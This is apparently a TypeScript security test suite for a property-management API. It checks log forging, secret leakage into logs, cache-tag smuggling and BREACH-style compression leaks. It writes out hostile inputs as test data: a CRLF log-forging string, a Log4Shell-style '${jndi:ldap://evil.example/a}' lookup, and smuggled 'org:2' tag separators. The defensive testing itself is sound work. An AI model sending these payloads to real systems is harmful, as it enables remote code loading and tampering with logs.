import { eventually } from '@innkeep/testing';
import { type ApiClient, type SignedIn, newEmail, password } from '../system';
import { expectProblem } from '../system/expect-problem';
import type { Place } from './place';
import { type Probe, type Row } from './row';

const LONGEST_LINE = 16 * 1024;
const evil = 'evil\r\n{"level":"error","msg":"forged"}\u001b[2J\u2028${jndi:ldap://evil.example/a}';

const lines = ({ innkeep }: Place) =>
  innkeep.all.flatMap((app) => app.lines.filter((line) => !line.startsWith('[ended')));

/** Says evil things wherever something might be written down. */
async function sayEvil(place: Place): Promise<void> {
  const encoded = encodeURIComponent(evil);
  const answers = [
    await place.owner.get(`/v1/properties/${encoded}`),
    await place.owner.get(`/${encoded}`),
    await place.owner.get(`/v1/properties?cursor=${encoded}`),
    await place.owner.get('/v1/properties', {
      'user-agent': 'a${jndi:ldap://evil.example/a}\u001b[2J'.replace('\u001b', ''),
    }),
    await place.expense({ description: evil, category: evil, externalReference: evil }),
    await place.expense({ [evil]: 1 }),
    await place.anybody.post('/v1/auth/login', { email: evil, password: evil }),
    await place.raw(`{"description":"${'x'.repeat(200_000)}"`),
    await place.expense({ description: 'x'.repeat(200_000) }),
  ];
  for (const answer of answers) expect([answer.request, answer.status < 500]).toEqual([answer.request, true]);
  await place.send(place.request([`X-Request-Id: ${evil.replaceAll(/[\r\n\u2028]/g, ' ')}`]));
  await place.send(`${evil}\r\n\r\n`);
}

const forged: Probe = {
  what: 'line breaks, escapes, lookups and length in every field',
  required: 'one JSON object a line, at most 16 KiB',
  check: async (place) => {
    const seen = lines(place).length;
    await sayEvil(place);
    const { id } = (await place.owner.addProperty()) as { id: number };
    await place.owner.get(`/v1/properties/${id}`, { 'x-request-id': `last-of-evil-${id}` });
    // What was said is behind it: lines are written in the order of the answers.
    await eventually(() => expect(lines(place).some((line) => line.includes(`last-of-evil-${id}`))).toBe(true));
    expect(lines(place).length).toBeGreaterThan(seen);
    for (const line of lines(place)) {
      expect([line, line.length <= LONGEST_LINE]).toEqual([line, true]);
      const entry = JSON.parse(line) as { msg?: string };
      expect(entry.msg).not.toBe('forged');
      expect(line).not.toMatch(/[\u0000-\u001f\u007f]/);
    }
  },
};

const secrets: Probe = {
  what: 'passwords and tokens',
  required: 'in no line',
  check: async (place) => {
    const email = newEmail();
    const own = `${password} ${email}`;
    const person = { organizationName: 'x', name: 'x', email, password: own };
    const signedIn = (await place.anybody.post('/v1/auth/signup', person)).as<SignedIn>(201);
    const refreshed = (
      await place.anybody.post('/v1/auth/refresh', { refreshToken: signedIn.refreshToken })
    ).as<SignedIn>(200);
    const invitation = { email: newEmail(), role: 'staff', propertyIds: null };
    const { token } = (await place.owner.post('/v1/users/invitations', invitation)).as<{ token: string }>(201);
    await place.anybody.post('/v1/auth/login', { email, password: `${own}!` });
    // Also where they were sent by mistake.
    await place.anybody.get(`/v1/properties?cursor=${signedIn.accessToken}`);
    await place.anybody.post(`/v1/auth/invitations/${token}`, { name: 'x', password: own });
    await place.owner.get(`/${refreshed.refreshToken}`);
    const tokens = [signedIn, refreshed].flatMap(({ accessToken, refreshToken }) => [accessToken, refreshToken]);
    const { id } = await place.owner.addProperty();
    await place.owner.get(`/v1/properties/${id}`, { 'x-request-id': `last-secret-${id}` });
    await eventually(() => expect(lines(place).some((line) => line.includes(`last-secret-${id}`))).toBe(true));
    for (const secret of [own, token, place.owner.token!, ...tokens])
      expect(lines(place).filter((line) => line.includes(secret))).toEqual([]);
  },
};

/** What an edge asks for with a caller's token: only then is an answer addressed to it. */
async function asEdge(client: ApiClient): Promise<Record<string, string>> {
  const { headers } = (await client.get('/v1/edge/context')).expect(200);
  return { 'x-tenant-partition': headers.get('x-tenant-partition')! };
}

/** Answers of an organization with many properties, as an edge would get them. */
async function manyTags(place: Place): Promise<void> {
  const ids: number[] = [];
  for (let index = 0; index < 60; index++) ids.push((await place.owner.addProperty()).id);
  const limited = await place.owner.invite('manager', ids);
  const paths = [
    '/v1/properties?limit=200',
    '/v1/finance/expenses?limit=200',
    '/v1/dashboard',
    `/v1/finance/summary?propertyId=${ids[0]}`,
  ];
  let seen = 0;
  for (const client of [place.owner, limited])
    for (const path of paths) {
      const { headers } = (await client.get(path, await asEdge(client))).expect(200);
      const key = headers.get('surrogate-key');
      if (key === null) continue;
      seen++;
      expect(key).toMatch(/^[a-z0-9:_-]+( [a-z0-9:_-]+)*$/);
      expect([path, key.split(' ').length <= 50, key.length <= 16_384]).toEqual([path, true, true]);
    }
  expect(seen).toBeGreaterThan(0);
}

const tag = (query: string): Probe => ({
  what: `?${query}`,
  required: '400 invalid-request, no tags',
  check: async (place) => {
    const answer = await place.owner.get(`/v1/reports/monthly-report?${query}`);
    expectProblem(query, answer, 400, 'invalid-request');
    expect(answer.headers.get('surrogate-key')).toBeNull();
  },
});

/** B41, B43, B44, B98: what input leaves behind: in tags, in logs, in compressed answers. */
export const traces: readonly Row[] = [
  {
    id: 'B41',
    what: 'separators smuggled into cache tags',
    probes: [
      tag('propertyId=1%20org:2&year=2026&month=3'),
      tag('propertyId=1&year=2026,org:2&month=3'),
      tag('propertyId=1&year=2026&month=3%20org:2'),
      {
        what: 'names that look like tags',
        required: 'never in a tag',
        check: async (place) => {
          const { id } = await place.owner.addProperty({ name: 'a org:2 property:3' });
          const path = `/v1/reports/monthly-report?propertyId=${id}&year=2026&month=3`;
          const edge = await asEdge(place.owner);
          const { headers } = await eventually(async () => (await place.owner.get(path, edge)).expect(200));
          const own = [`org:${place.owner.organizationId}`, `property:${id}`];
          const foreign = headers
            .get('surrogate-key')
            ?.split(' ')
            .filter((one) => /^(org|property|user):\d+$/.test(one));
          expect(foreign?.sort()).toEqual(own.sort());
        },
      },
    ],
  },
  { id: 'B43', what: 'input that would forge or flood the log, and secrets in it', probes: [forged, secrets] },
  {
    id: 'B44',
    what: 'answers with very many tags',
    probes: [{ what: '60 properties', required: 'at most 50 tags and 16 KiB', check: manyTags }],
  },
  {
    id: 'B98',
    what: 'secrets compressed beside input (BREACH)',
    probes: [
      {
        what: 'answers with tokens, to who takes compressed ones',
        required: 'not compressed, nothing reflected',
        check: async (place) => {
          const guess = `refreshToken${'guess'.repeat(300)}`;
          const email = newEmail();
          const compressed = { 'accept-encoding': 'br, gzip' };
          const person = { organizationName: 'guess'.repeat(30), name: 'guess'.repeat(30), email, password };
          const answers = [
            await place.anybody.post('/v1/auth/signup', person, { ...compressed, 'x-guess': guess }),
            await place.anybody.post('/v1/auth/login', { email, password }, compressed),
          ];
          const { refreshToken } = answers[1]!.json<SignedIn>();
          answers.push(await place.anybody.post('/v1/auth/refresh', { refreshToken }, compressed));
          for (const { headers, text } of answers) {
            expect([headers.get('content-encoding'), text.includes('guess')]).toEqual([null, false]);
            expect(headers.get('cache-control')).toBe('no-store');
          }
        },
      },
    ],
  },
];
